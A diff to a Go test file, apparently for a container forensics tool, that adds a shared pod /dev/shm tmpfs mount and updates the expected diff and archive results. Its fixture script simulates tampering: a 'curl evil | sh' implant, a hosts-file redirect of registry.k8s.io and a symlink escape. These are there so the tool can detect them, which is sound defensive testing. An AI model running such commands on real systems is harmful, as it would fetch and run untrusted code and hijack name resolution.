@@ -31,7 +31,8 @@ ln -s / /dev/shm/escape
 dd if=/dev/zero of=/dev/shm/huge bs=1 count=0 seek=1099511627776 2>/dev/null
 echo '203.0.113.7 registry.k8s.io' >> /etc/hosts
 mkdir /run/x && echo 1 > /run/x/pid
-echo 'curl evil | sh' > /data/implant.sh`
+echo 'curl evil | sh' > /data/implant.sh
+echo shared > /pod-shm/x`
 
 // The files the runtime bind-mounts, as nerdctl and the CRI plugin write
 // them into a host directory.
@@ -60,7 +61,24 @@ func runMountedContainer(t *testing.T, id string) *mountedContainer {
 			t.Fatal(err)
 		}
 	}
-	mounts := []specs.Mount{{Destination: "/data", Type: "bind", Source: volume, Options: []string{"rbind", "rw"}}}
+	// A host tmpfs shared into the container, as the CRI plugin shares a
+	// pod's /dev/shm; unmounted after the container is removed.
+	podShm := filepath.Join(t.TempDir(), "shm")
+	if err := os.Mkdir(podShm, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := unix.Mount("shm", podShm, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, "size=1m"); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if err := unix.Unmount(podShm, unix.MNT_DETACH); err != nil {
+			t.Errorf("unmount %s: %v", podShm, err)
+		}
+	})
+	mounts := []specs.Mount{
+		{Destination: "/data", Type: "bind", Source: volume, Options: []string{"rbind", "rw"}},
+		{Destination: "/pod-shm", Type: "bind", Source: podShm, Options: []string{"rbind", "rw"}},
+	}
 	for name, content := range runtimeFiles {
 		src := filepath.Join(host, name)
 		if err := os.WriteFile(src, []byte(content), 0o644); err != nil {
@@ -159,6 +177,7 @@ func TestMountsDiffAndCollect(t *testing.T) {
 		{"/etc/resolv.conf", "C", "bind", "/etc/resolv.conf", "file", "0644", sha([]byte(runtimeFiles["resolv.conf"]))},
 		{"/etc/hostname", "C", "bind", "/etc/hostname", "file", "0644", sha([]byte(runtimeFiles["hostname"]))},
 		{"/data/implant.sh", "A", "volume", "/data", "file", "0644", sha([]byte("curl evil | sh\n"))},
+		{"/pod-shm/x", "A", "tmpfs", "/pod-shm", "file", "0644", sha([]byte("shared\n"))},
 	}
 	for _, w := range want {
 		var got *change
@@ -254,6 +273,9 @@ func checkMountsBag(t *testing.T, bag string, diffJSON []change, volumes bool) {
 	if e := entries["huge"]; e.hdr == nil || len(e.content) != 0 {
 		t.Errorf("tmpfs archive: the 1 TiB sparse file must be there without its content: %+v", e.hdr)
 	}
+	if e := tarEntries(t, read(byDest["/pod-shm"].Archive))["x"]; e.content != "shared\n" {
+		t.Errorf("a host tmpfs bind-mounted (a pod's /dev/shm) must be archived as a tmpfs: %q", e.content)
+	}
 	if p := byDest["/proc"]; p.Examined || p.Note == "" {
 		t.Errorf("mounts.json /proc: %+v", p)
 	}
@@ -294,13 +316,11 @@ func TestMountsStoppedContainer(t *testing.T) {
 			t.Errorf("diff stderr lacks %q:\n%s", note, r.stderr)
 		}
 	}
-	for _, line := range []string{"C /etc/hosts\t[bind]", "A /data/implant.sh\t[volume]"} {
-		if !strings.Contains(r.stdout, line+"\n") {
-			t.Errorf("diff lacks %q:\n%s", line, r.stdout)
-		}
-	}
-	if strings.Contains(r.stdout, "[tmpfs]") {
-		t.Errorf("tmpfs lines for a stopped container:\n%s", r.stdout)
+	// The host's files and tmpfs outlive the task; the task's own tmpfs
+	// mounts do not.
+	want := "A /data/implant.sh\t[volume]\nC /etc/hostname\t[bind]\nC /etc/hosts\t[bind]\nC /etc/resolv.conf\t[bind]\nA /pod-shm/x\t[tmpfs]\n"
+	if r.stdout != want {
+		t.Errorf("diff of the stopped container:\n%s\nwant\n%s", r.stdout, want)
 	}
 	out := filepath.Join(t.TempDir(), "bag")
 	h.mustCLI(t, "collect", "-o", out, c.id)
